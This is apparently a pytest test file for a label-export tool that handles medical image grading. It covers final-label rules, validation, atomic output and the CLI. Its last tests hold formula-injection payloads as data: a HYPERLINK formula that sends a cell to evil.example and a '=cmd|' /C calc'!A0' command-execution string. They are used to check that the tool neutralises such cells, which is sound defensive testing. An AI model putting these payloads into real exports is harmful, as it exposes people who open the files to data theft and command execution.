"""export_labels: the final-label rule, the column contract, validation with file + row, atomic output, the CLI."""

from __future__ import annotations

import json
import math

import pandas as pd
import pytest

from engine import cli
from engine.data import schema
from engine.data.cache import file_sha256
from engine.errors import EXIT_BAD_INPUT, InputError
from engine.export import export_labels, provenance_path, read_labels
from engine.store import WorkspaceStore

CLASSES = ["normal", "pre-plus", "plus"]


def _row(image, majority, consensus, suggested, flag=0, votes=None, probs=(0.8, 0.15, 0.05)):
    return {
        "image": image,
        "role": "unlabeled" if not majority else ("meta" if consensus else "train"),
        "votes": votes if votes is not None else (f"dr_a={majority};dr_b={majority}" if majority else ""),
        "majority": majority,
        "consensus": consensus,
        **{schema.prob_col(c): p for c, p in zip(CLASSES, probs, strict=True)},
        "suggested": suggested,
        "confidence": max(probs),
        "flag": flag,
        "flag_reason": "model disagrees" if flag else "",
        "flag_score": 0.9 if flag else 0.1,
    }


@pytest.fixture
def run_dir(tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    rows = [
        _row("a.png", "normal", True, "normal"),  # consensus
        _row("b.png", "plus", False, "pre-plus", flag=1, votes="dr_a=plus;dr_b=normal"),  # flagged, unreviewed
        _row("c.png", "", False, "plus", probs=(0.1, 0.2, 0.7)),  # nobody graded it
        _row("d.png", "normal", True, "plus", flag=1),  # consensus but reviewed below
        _row("e/f.png", "pre-plus", False, "pre-plus"),  # only skipped below
    ]
    frame = pd.DataFrame(rows, columns=schema.labels_columns(CLASSES))
    frame.to_csv(run / "labels.csv", index=False)
    (run / "config.json").write_text(json.dumps({"runtime": {"method": "mslg"}}))
    return run


@pytest.fixture
def store(tmp_path):
    with WorkspaceStore(tmp_path / "workspace.db") as s:
        yield s


def _decide(store, run, image, label, action="choose_class", **kw):
    return store.add_decision(run, image, reviewer=kw.pop("reviewer", "dr_c"), new_label=label, old_label="x",
                              action=action, **kw)  # fmt: skip


def test_columns_and_sources(run_dir, store):
    _decide(store, run_dir, "d.png", "pre-plus", note="vessels tortuous")
    _decide(store, run_dir, "e/f.png", None, action="skip")
    out = export_labels(run_dir, store=store).set_index("image")
    assert list(out.reset_index().columns) == schema.export_columns(CLASSES)
    assert out["source"].to_dict() == {
        "a.png": "consensus",
        "b.png": "majority",  # flagged but unreviewed: experts are kept
        "c.png": "model",
        "d.png": "review",
        "e/f.png": "majority",  # a skip is not a decision
    }
    assert out["final_label"].to_dict() == {
        "a.png": "normal",
        "b.png": "plus",
        "c.png": "plus",
        "d.png": "pre-plus",
        "e/f.png": "pre-plus",
    }
    d = out.loc["d.png"]
    assert d["reviewer"] == "dr_c" and d["note"] == "vessels tortuous" and d["reviewed_at"].endswith("+00:00")
    assert d["majority"] == "normal" and d["votes"] == "dr_a=normal;dr_b=normal"  # evidence kept beside the decision
    assert out.loc["a.png", "reviewer"] == "" and out.loc["a.png", "reviewed_at"] == ""
    assert math.isclose(out.loc["c.png", "p:plus"], 0.7)


def test_latest_review_overrides_even_consensus(run_dir, store):
    _decide(store, run_dir, "a.png", "plus", reviewer="dr_c")
    _decide(store, run_dir, "a.png", "pre-plus", reviewer="dr_d")
    _decide(store, run_dir, "a.png", None, action="skip", reviewer="dr_e")
    a = export_labels(run_dir, store=store).set_index("image").loc["a.png"]
    assert (a["final_label"], a["source"], a["reviewer"]) == ("pre-plus", "review", "dr_d")


def test_without_a_store_there_are_no_reviews_unless_the_run_has_review_db(run_dir):
    assert "review" not in set(export_labels(run_dir)["source"])
    with WorkspaceStore(run_dir / "review.db") as s:
        _decide(s, run_dir, "b.png", "pre-plus")
    out = export_labels(run_dir).set_index("image")
    assert out.loc["b.png", "source"] == "review"


def test_store_given_by_path(run_dir, store, tmp_path):
    _decide(store, run_dir, "c.png", "normal")
    assert export_labels(run_dir, store=str(store.path)).set_index("image").loc["c.png", "final_label"] == "normal"
    with pytest.raises(InputError, match="workspace store not found"):
        export_labels(run_dir, store=tmp_path / "typo.db")
    assert not (tmp_path / "typo.db").exists()


def test_a_store_that_is_not_a_workspace_database_is_refused(run_dir, tmp_path, capsys):
    import sqlite3

    garbage = tmp_path / "notes.db"
    garbage.write_bytes(b"this is a text file, not SQLite\n" * 10)
    other = tmp_path / "other.sqlite"
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE patients (name TEXT)")
    other_bytes = other.read_bytes()
    out = tmp_path / "out.csv"
    assert cli.main(["export", str(run_dir), "--out", str(out), "--store", str(garbage)]) == EXIT_BAD_INPUT
    assert f"{garbage}: is not a workspace database (file is not a database)" in capsys.readouterr().err
    assert cli.main(["export", str(run_dir), "--out", str(out), "--store", str(other)]) == EXIT_BAD_INPUT
    assert f"{other}: is an SQLite database of another program" in capsys.readouterr().err
    assert not out.exists() and not provenance_path(out).exists()
    assert garbage.read_bytes() == b"this is a text file, not SQLite\n" * 10 and other.read_bytes() == other_bytes
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.db", "other.sqlite", "run"]


@pytest.mark.parametrize(
    "image,label,match",
    [("zzz.png", "plus", "image is not in"), ("a.png", "plus+", "label 'plus\\+' is not one of the classes")],
)
def test_invalid_decision_is_refused_and_nothing_written(run_dir, store, tmp_path, image, label, match):
    out = tmp_path / "cleaned.csv"
    out.write_text("previous export\n")
    _decide(store, run_dir, image, label)
    with pytest.raises(InputError, match=match):
        export_labels(run_dir, store=store, out=out)
    assert out.read_text() == "previous export\n"
    assert not provenance_path(out).exists()


def test_missing_and_malformed_labels(tmp_path, run_dir):
    with pytest.raises(InputError, match="labels.csv not found"):
        export_labels(tmp_path / "nope")
    frame = pd.read_csv(run_dir / "labels.csv", dtype=str, keep_default_na=False)
    frame.loc[1, "consensus"] = "maybe"
    frame.loc[3, "majority"] = "plus+"
    frame.loc[4, "image"] = "a.png"
    frame.to_csv(run_dir / "labels.csv", index=False)
    with pytest.raises(InputError) as info:
        read_labels(run_dir / "labels.csv")
    rows = {(p.row, p.problem.split(" ")[0]) for p in info.value.problems}
    assert rows == {(2, "consensus"), (4, "majority"), (5, "image")}
    frame.drop(columns=["suggested"]).to_csv(run_dir / "labels.csv", index=False)
    with pytest.raises(InputError, match="missing column"):
        export_labels(run_dir)


def test_written_atomically_with_provenance(run_dir, store, tmp_path, monkeypatch):
    _decide(store, run_dir, "d.png", "pre-plus")
    out = tmp_path / "out" / "cleaned.csv"
    frame = export_labels(run_dir, store=store, out=out)
    back = pd.read_csv(out, keep_default_na=False)
    assert list(back.columns) == schema.export_columns(CLASSES) and len(back) == len(frame) == 5
    prov = json.loads(provenance_path(out).read_text())
    assert prov["counts_by_source"] == {"consensus": 1, "review": 1, "model": 1, "majority": 2}
    assert prov["method"] == "mslg" and prov["classes"] == CLASSES and prov["decisions_applied"] == 1
    assert prov["labels_sha256"] == file_sha256(run_dir / "labels.csv")
    assert prov["export_sha256"] == file_sha256(out) and prov["engine_version"] and prov["rule"]

    def broken_to_csv(self, path, **kw):  # a crash half-way through writing
        with open(path, "w") as fh:
            fh.write("image,final_")
        raise OSError("disk full")

    monkeypatch.setattr(pd.DataFrame, "to_csv", broken_to_csv)
    before = out.read_bytes()
    with pytest.raises(OSError, match="disk full"):
        export_labels(run_dir, store=store, out=out)
    assert out.read_bytes() == before
    assert sorted(p.name for p in out.parent.iterdir()) == ["cleaned.csv", "cleaned.csv.provenance.json"]


def test_refuses_to_overwrite_labels_csv(run_dir):
    with pytest.raises(InputError, match="overwrite the run's labels.csv"):
        export_labels(run_dir, out=run_dir / "labels.csv")


def test_cli(run_dir, store, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(cli, "COMMANDS", {"export": "export"})  # only this command, whatever else is in progress
    _decide(store, run_dir, "b.png", "normal")
    out = tmp_path / "cleaned.csv"
    assert cli.main(["export", str(run_dir), "--out", str(out), "--store", str(store.path)]) == 0
    printed = capsys.readouterr().out
    assert "wrote 5 rows" in printed and "review" in printed and out.exists()
    assert cli.main(["export", str(tmp_path / "missing"), "--out", str(tmp_path / "x.csv")]) == EXIT_BAD_INPUT
    assert not (tmp_path / "x.csv").exists()


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "fine\r=1+1"]  # a CR inside a cell: quoted, else a spreadsheet starts a new row (and cell) there


def test_formula_like_notes_reviewers_votes_and_images_are_neutralised(tmp_path, store):
    """OWASP's rule for every cell a spreadsheet would run: a leading ' (shown as text, never executed)."""
    import csv

    from engine import atomic

    run = tmp_path / "run"
    votes = "@dr_a=plus;-dr_b=normal"  # expert names are free text from votes.csv's header
    rows = [_row("-scan.png", "plus", False, "plus", votes=votes), _row("=x.png", "plus", True, "plus"),
            *(_row(f"{i}.png", "normal", True, "normal") for i in range(len(FORMULAS)))]
    atomic.write_csv(run / "labels.csv", pd.DataFrame(rows, columns=schema.labels_columns(CLASSES)))
    raw_labels = (run / "labels.csv").read_text()
    assert "\n'-scan.png," in raw_labels and "\n'=x.png," in raw_labels and ",'@dr_a=plus;-dr_b=normal," in raw_labels
    labels, _ = read_labels(run / "labels.csv")  # read back as written: the run's own names are kept
    assert list(labels["image"][:2]) == ["-scan.png", "=x.png"] and labels["votes"][0] == votes

    _decide(store, run, "-scan.png", "normal", reviewer="=cmd|' /C calc'!A0", note="-2+3")
    for i, text in enumerate(FORMULAS):
        _decide(store, run, f"{i}.png", "plus", reviewer=text.strip() or "x", note=text)
    out = tmp_path / "cleaned.csv"
    frame = export_labels(run, store=store, out=out)
    with open(out, newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    written = {c[1:] for c in cells if c.startswith("'")}
    for text in [*FORMULAS, "-2+3", "=cmd|' /C calc'!A0", "-scan.png", "=x.png", votes]:
        assert text in written or text == "fine\r=1+1", repr(text)
    assert "fine\r=1+1" in cells and "0.8" in cells  # the CR stayed inside its quoted cell; numbers as they are
    assert frame.set_index("image").loc["-scan.png", "note"] == "-2+3"  # the returned frame holds the real text


def test_a_roles_file_keeps_formula_like_image_names_through_a_round_trip(tmp_path):
    from PIL import Image

    from engine.data.split import read_roles, write_roles
    from engine.data.votes import read_votes

    ds = tmp_path / "ds"
    ds.mkdir()
    for name in ("-a.png", "+b.png", "c.png"):
        Image.new("RGB", (4, 4)).save(ds / name)
    (ds / "votes.csv").write_text("image,dr_a,dr_b\n-a.png,n,n\n+b.png,p,p\nc.png,n,p\n")
    table = read_votes(ds)
    write_roles(tmp_path / "roles.csv", list(table.frame["image"]), ["meta", "test", "train"])
    assert "'-a.png,meta" in (tmp_path / "roles.csv").read_text()
    assert list(read_roles(tmp_path / "roles.csv", table)) == ["meta", "test", "train"]
